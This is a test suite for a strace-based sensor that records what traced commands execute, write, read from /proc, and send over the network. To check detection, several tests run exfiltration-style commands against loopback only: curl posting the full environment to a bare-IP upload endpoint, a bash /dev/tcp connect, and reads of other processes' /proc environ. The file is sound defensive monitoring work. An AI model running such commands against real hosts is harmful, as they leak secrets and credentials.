import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { once } from 'node:events';
import { chmod, mkdir, mkdtemp, readdir, realpath, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { SensorEvent } from '../../src/trace/sensor-events.js';
import { startTracedCommand, straceAvailable, type TracedCommandOptions } from '../../src/trace/strace-session.js';
import { startDnsResponder, type DnsResponder } from './dns-responder.js';

type Extract_<K extends SensorEvent['kind']> = Extract<SensorEvent, { kind: K }>;
const of = <K extends SensorEvent['kind']>(events: SensorEvent[], kind: K) => events.filter((event): event is Extract_<K> => event.kind === kind);

interface Run {
  events: SensorEvent[];
  status: [number | null, NodeJS.Signals | null];
  rootPid: number | undefined;
  stdout: string;
  lines: number;
  unparsed: number;
}

/** Runs a real command under the sensor and collects everything it reported. */
async function traced(command: [string, ...string[]], options: Partial<TracedCommandOptions> & { during?: (events: SensorEvent[], kill: (signal: NodeJS.Signals) => void) => Promise<void> } = {}): Promise<Run> {
  const events: SensorEvent[] = [];
  const started = await startTracedCommand({ command, env: process.env, stdin: 'ignore', onEvent: (event) => events.push(event), ...options });
  if (!started.ok) throw started.error;
  let stdout = '';
  started.child.stdout!.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
  started.child.stderr!.resume();
  await options.during?.(events, started.killTree);
  const status = await started.exited;
  const stats = await started.done;
  return { events, status, rootPid: await started.rootPid, stdout, lines: stats.lines, unparsed: stats.unparsed };
}

async function until(events: SensorEvent[], test: (event: SensorEvent) => boolean, ms = 5000): Promise<SensorEvent> {
  const deadline = Date.now() + ms;
  for (;;) {
    const found = events.find(test);
    if (found) return found;
    if (Date.now() > deadline) throw new Error('event not seen in time');
    await new Promise((resolve) => setTimeout(resolve, 10));
  }
}

describe('startTracedCommand (real processes under strace)', function () {
  let dir: string;

  before(async function () {
    const probe = await straceAvailable();
    if (!probe.ok) this.skip();
    dir = await realpath(await mkdtemp(join(tmpdir(), 'pipewatch-trace-test-')));
  });
  after(async () => {
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  it('probes strace once and tells a missing strace', async () => {
    const probe = await straceAvailable();
    assert.ok(probe.ok && /^\d+\.\d+/.test(probe.version));
    assert.equal(straceAvailable(), straceAvailable(), 'cached');
    const missing = await straceAvailable('/nonexistent/strace');
    assert.equal(missing.ok, false);
  });

  it('sees every one of 50 short execs, with their parent, and nothing unparsed', async () => {
    const run = await traced(['sh', '-c', 'for i in $(seq 50); do /bin/true; done']);
    const execs = of(run.events, 'exec').filter((event) => event.exe === '/bin/true');
    assert.equal(execs.length, 50);
    assert.ok(execs.every((event) => event.ok && event.ppid === run.rootPid));
    assert.equal(of(run.events, 'exit').filter((event) => execs.some((exec) => exec.pid === event.pid)).length, 50);
    assert.equal(run.unparsed, 0);
    assert.deepEqual(run.status, [0, null]);
  });

  it('sees a process that lives 10 ms', async () => {
    const run = await traced(['sh', '-c', 'sleep 0.01; echo done']);
    const sleep = of(run.events, 'exec').find((event) => event.argv[0] === 'sleep');
    assert.deepEqual(sleep?.argv, ['sleep', '0.01']);
    assert.equal(run.stdout, 'done\n', 'output passes through');
  });

  it('passes the exit code and the fatal signal through unchanged', async () => {
    assert.deepEqual((await traced(['sh', '-c', 'exit 3'])).status, [3, null]);
    const killed = await traced(['sh', '-c', 'kill -TERM $$']);
    assert.deepEqual(killed.status, [null, 'SIGTERM']);
    assert.deepEqual(of(killed.events, 'exit').find((event) => event.pid === killed.rootPid), { kind: 'exit', at: of(killed.events, 'exit')[0]!.at, pid: killed.rootPid, signal: 'SIGTERM' });
  });

  it('does not wait for a daemon the command left behind, yet traces it to its end', async () => {
    const started = await startTracedCommand({ command: ['sh', '-c', 'sleep 0.8 & exit 0'], env: process.env, stdin: 'ignore' });
    assert.ok(started.ok);
    const begun = Date.now();
    assert.deepEqual(await started.exited, [0, null]);
    assert.ok(Date.now() - begun < 600, 'exited as soon as sh ended');
    await started.done;
    assert.ok(Date.now() - begun >= 700, 'the trace ran until the daemon ended');
  });

  it('tells a command that cannot start, like an untraced spawn', async () => {
    const missing = await startTracedCommand({ command: ['pipewatch-no-such-command'], env: process.env, stdin: 'ignore' });
    assert.ok(!missing.ok && missing.error.code === 'ENOENT');
    const file = join(dir, 'not-executable');
    await writeFile(file, 'echo hi\n');
    await chmod(file, 0o644);
    const denied = await startTracedCommand({ command: [file], env: process.env, stdin: 'ignore' });
    assert.ok(!denied.ok && denied.error.code === 'EACCES');
  });

  it('reports an exec of a missing file as failed, and drops PATH-search misses', async () => {
    const run = await traced(['sh', '-c', `${dir}/missing-tool --flag; env true`]);
    const failed = of(run.events, 'exec').filter((event) => !event.ok);
    assert.deepEqual(failed.map((event) => [event.exe, event.argv, event.error]), [[`${dir}/missing-tool`, [`${dir}/missing-tool`, '--flag'], 'ENOENT']]);
    assert.ok(of(run.events, 'exec').some((event) => event.ok && event.exe.endsWith('/true')));
  });

  it('reports file writes, renames and deletes with absolute paths', async () => {
    await mkdir(join(dir, 'work'), { recursive: true });
    const run = await traced(['sh', '-c', 'cd work && echo x > a.txt && mv a.txt b.txt && rm b.txt && cat /etc/hostname > /dev/null'], { cwd: dir });
    assert.deepEqual(of(run.events, 'file').map((event) => [event.op, event.path, event.from]), [
      ['create', `${dir}/work/a.txt`, undefined],
      ['rename', `${dir}/work/b.txt`, `${dir}/work/a.txt`],
      ['delete', `${dir}/work/b.txt`, undefined],
    ]);
    assert.deepEqual(await readdir(join(dir, 'work')), []);
  });

  it('reports a read of a sibling\'s environment with the target pid, and /proc/self as the reader', async () => {
    const run = await traced(['sh', '-c', 'sleep 5 & s=$!; cat /proc/$s/environ > /dev/null; cat /proc/self/maps > /dev/null; kill $s']);
    const sleep = of(run.events, 'exec').find((event) => event.argv[0] === 'sleep')!;
    const cats = of(run.events, 'exec').filter((event) => event.argv[0] === 'cat');
    assert.deepEqual(of(run.events, 'proc_read').map((event) => [event.pid, event.targetPid, event.what]), [
      [cats[0]!.pid, sleep.pid, 'environ'],
      [cats[1]!.pid, cats[1]!.pid, 'maps'],
    ]);
  });

  it('reports a refused open of another process\'s memory as a denied attempt, and a vanished one not at all', async () => {
    // As root, drop to nobody so /proc/1/environ is refused; as anyone else it already is.
    const asNobody = process.getuid?.() === 0 ? ['setpriv', '--reuid=65534', '--regid=65534', '--clear-groups'] : [];
    const run = await traced(['sh', '-c', `${asNobody.join(' ')} cat /proc/1/environ > /dev/null 2>&1; cat /proc/999999999/mem 2>/dev/null; true`]);
    const reads = of(run.events, 'proc_read');
    assert.deepEqual(reads.map((event) => [event.targetPid, event.what, event.error]), [[1, 'environ', 'EACCES']]);
  });

  describe('network', () => {
    let server: Server;
    let port: number;
    const bodies: number[] = [];
    before(async () => {
      server = createServer((request, response) => {
        let size = 0;
        request.on('data', (chunk: Buffer) => (size += chunk.length));
        request.on('end', () => {
          bodies.push(size);
          response.end('ok');
        });
      });
      server.listen(0, '127.0.0.2');
      await once(server, 'listening');
      port = (server.address() as AddressInfo).port;
    });
    after(() => new Promise<void>((resolve) => server.close(() => resolve())));

    it('sees curl posting the environment to a bare IP: unresolved connect, bytes sent', async () => {
      const run = await traced(['sh', '-c', `curl -s -m 2 -d "$(env)" http://127.0.0.2:${port}/upload`]);
      const connect = of(run.events, 'connect').find((event) => event.port === port);
      assert.deepEqual(connect && [connect.ip, connect.protocol, connect.resolved, connect.host], ['127.0.0.2', 'tcp', false, undefined]);
      const curl = of(run.events, 'exec').find((event) => event.argv[0] === 'curl')!;
      assert.equal(connect?.pid, curl.pid);
      const traffic = of(run.events, 'traffic').filter((event) => event.ip === '127.0.0.2' && event.port === port);
      const sent = traffic.reduce((sum, event) => sum + event.sent, 0);
      assert.ok(bodies.length > 0 && sent > bodies[bodies.length - 1]!, `sent ${sent} bytes, more than the ${bodies.at(-1)} byte body`);
      assert.ok(traffic.some((event) => event.received > 0));
    });

    it('reports a refused connect as an attempt with its errno, and curl\'s non-blocking refused connect as a destination', async () => {
      // Nothing listens on 127.0.0.4:9. bash's /dev/tcp connects blocking, so the refusal is the connect's own result.
      const run = await traced(['sh', '-c', 'bash -c "echo x > /dev/tcp/127.0.0.4/9" 2>/dev/null; curl -s -m 1 http://127.0.0.4:9/ ; true']);
      const attempts = of(run.events, 'connect').filter((event) => event.ip === '127.0.0.4' && event.port === 9);
      const bash = of(run.events, 'exec').find((event) => event.argv[0] === 'bash')!;
      const curl = of(run.events, 'exec').find((event) => event.argv[0] === 'curl')!;
      assert.deepEqual(attempts.find((event) => event.pid === bash.pid)?.error, 'ECONNREFUSED');
      // curl learns of the refusal later, from poll and SO_ERROR, which are not traced: still reported as a destination.
      assert.ok(attempts.some((event) => event.pid === curl.pid), 'curl\'s attempt is seen');
    });

    describe('with a loopback DNS responder', () => {
      let dns: DnsResponder;
      before(async () => {
        dns = await startDnsResponder({ 'registry.test': { a: ['127.0.0.2'] } });
      });
      after(() => dns.close());

      it('links a connect to the DNS answer that named its IP', async function () {
        if (spawnSync('python3', ['-c', 'pass']).status !== 0) this.skip();
        // Queries only the loopback responder, then connects to what it answered.
        const script = `
import socket, struct
q = struct.pack('>HHHHHH', 0x5151, 0x0100, 1, 0, 0, 0) + b'\\x08registry\\x04test\\x00' + struct.pack('>HH', 1, 1)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(2)
u.sendto(q, ('127.0.0.1', ${dns.port}))
r, _ = u.recvfrom(512)
ip = socket.inet_ntoa(r[-4:])
c = socket.create_connection((ip, ${port}), timeout=2)
c.sendall(b'GET / HTTP/1.1\\r\\nHost: registry.test\\r\\nContent-Length: 0\\r\\n\\r\\n'); c.recv(100); c.close()
print(ip)`;
        const run = await traced(['python3', '-c', script], { dnsPorts: [dns.port] });
        assert.equal(run.stdout.trim(), '127.0.0.2');
        assert.deepEqual(of(run.events, 'dns').map((event) => [event.name, event.addresses]), [['registry.test', ['127.0.0.2']]]);
        const connect = of(run.events, 'connect').find((event) => event.port === port);
        assert.deepEqual(connect && [connect.ip, connect.resolved, connect.host], ['127.0.0.2', true, 'registry.test']);
        const first = of(run.events, 'traffic').find((event) => event.port === port && event.sent > 0);
        assert.equal(first?.host, 'registry.test', 'the Host header of the first bytes');
        assert.equal(of(run.events, 'traffic').filter((event) => event.port === dns.port).length, 0, 'DNS is not traffic');
      });
    });

    it('sees glibc resolve through port 53 (own mount namespace, loopback resolver only)', async function () {
      // Needs root: binding 127.0.0.1:53 and `unshare -m` to give getaddrinfo a resolv.conf naming only 127.0.0.1.
      if (process.getuid?.() !== 0 || spawnSync('unshare', ['-m', 'true']).status !== 0 || spawnSync('python3', ['-c', 'pass']).status !== 0) this.skip();
      let dns: DnsResponder;
      try {
        dns = await startDnsResponder({ 'registry.test': { a: ['127.0.0.2'] } }, 53);
      } catch {
        this.skip();
      }
      try {
        const resolv = join(dir, 'resolv.conf');
        await writeFile(resolv, 'nameserver 127.0.0.1\noptions attempts:1 timeout:1\n');
        // The lookup runs only once the namespace's resolv.conf is exactly ours.
        const script = [
          `mount --bind ${resolv} /etc/resolv.conf`,
          `cmp -s ${resolv} /etc/resolv.conf`,
          `exec python3 -c "import socket; c = socket.create_connection(('registry.test', ${port}), timeout=2); c.close()"`,
        ].join(' && ');
        const run = await traced(['unshare', '-m', 'sh', '-c', script]);
        assert.deepEqual(run.status, [0, null]);
        assert.ok(of(run.events, 'dns').some((event) => event.name === 'registry.test' && event.addresses.includes('127.0.0.2')));
        const toDns = of(run.events, 'connect').find((event) => event.port === 53);
        assert.deepEqual(toDns && [toDns.ip, toDns.protocol], ['127.0.0.1', 'udp']);
        const connect = of(run.events, 'connect').find((event) => event.port === port);
        assert.deepEqual(connect && [connect.ip, connect.resolved, connect.host], ['127.0.0.2', true, 'registry.test']);
      } finally {
        await dns!.close();
      }
    });
  });

  it('stops the whole traced tree with killTree', async () => {
    const begun = Date.now();
    const run = await traced(['sh', '-c', 'sleep 30 & sleep 30; echo never'], {
      during: async (events, kill) => {
        await until(events, (event) => event.kind === 'exec' && event.argv[0] === 'sleep');
        await until(events, (event) => event.kind === 'exec' && event.argv[0] === 'sleep' && events.filter((e) => e.kind === 'exec' && e.argv[0] === 'sleep').length === 2);
        kill('SIGTERM');
      },
    });
    assert.ok(Date.now() - begun < 5000);
    assert.equal(run.stdout, '');
    const sleeps = of(run.events, 'exec').filter((event) => event.argv[0] === 'sleep');
    for (const sleep of sleeps) assert.deepEqual(of(run.events, 'exit').find((event) => event.pid === sleep.pid)?.signal, 'SIGTERM');
    assert.deepEqual(run.status, [null, 'SIGTERM']);
  });

  it('delivers events while the command still runs (not only at its end)', async () => {
    let seenAt = 0;
    const started = await startTracedCommand({
      command: ['sh', '-c', 'touch marker; sleep 0.5'],
      cwd: dir,
      env: process.env,
      stdin: 'ignore',
      onEvent: (event) => {
        if (event.kind === 'file' && event.path === `${dir}/marker`) seenAt = Date.now();
      },
    });
    assert.ok(started.ok);
    await started.exited;
    const end = Date.now();
    await started.done;
    assert.ok(seenAt > 0 && end - seenAt > 300, `seen ${end - seenAt} ms before the end`);
  });
});
